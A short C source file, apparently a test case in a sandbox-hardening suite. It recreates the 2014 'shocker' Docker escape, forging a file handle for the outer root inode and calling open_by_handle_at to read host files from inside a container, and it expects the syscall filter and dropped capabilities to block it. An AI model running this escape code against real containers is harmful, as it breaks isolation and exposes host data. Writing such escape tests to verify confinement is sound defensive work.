// attempt: Opens a host file by its file handle, which needs no path, from a file of the same file system.
// known-from: shocker.c, the escape from Docker 0.11 by open_by_handle_at (2014)
// held-by: filter, capabilities
// must: held
// needs: secret
// control: bare root
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    union {
        struct file_handle handle;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } place = {.handle.handle_bytes = MAX_HANDLE_SZ};
    char text[100] = "";
    int mount, fd = -1;
    const char *secret = getenv("ESCAPE_SECRET");
    /* In the jail the path is not there: the root of the file system around it, inode 2, stands for it. */
    if (name_to_handle_at(AT_FDCWD, secret, &place.handle, &mount, 0)) {
        place.handle.handle_bytes = 8;
        place.handle.handle_type = 1;
        memcpy(place.handle.f_handle, (unsigned[]){2, 0}, 8);
    }
    int around = open("/usr", O_RDONLY | O_DIRECTORY);
    fd = open_by_handle_at(around, &place.handle, O_RDONLY);
    if (fd < 0) return printf("held: %s\n", strerror(errno)) < 0;
    if (read(fd, text, sizeof text - 1) < 0) return printf("escaped: opened a directory of the host\n") < 0;
    return printf("escaped: %s", text) < 0;
}
